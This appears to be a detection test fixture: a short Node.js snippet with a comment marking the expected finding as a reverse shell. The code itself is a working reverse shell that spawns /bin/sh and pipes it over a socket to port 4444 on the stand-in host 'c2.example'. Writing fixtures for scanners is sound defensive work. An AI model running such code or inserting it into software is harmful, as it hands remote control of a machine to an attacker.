const net = require('net');
const { spawn } = require('child_process');

const shell = spawn('/bin/sh', []);
const connection = net.connect(4444, 'c2.example', () => { // expect: malicious-command/reverse-shell
  connection.pipe(shell.stdin);
  shell.stdout.pipe(connection);
});
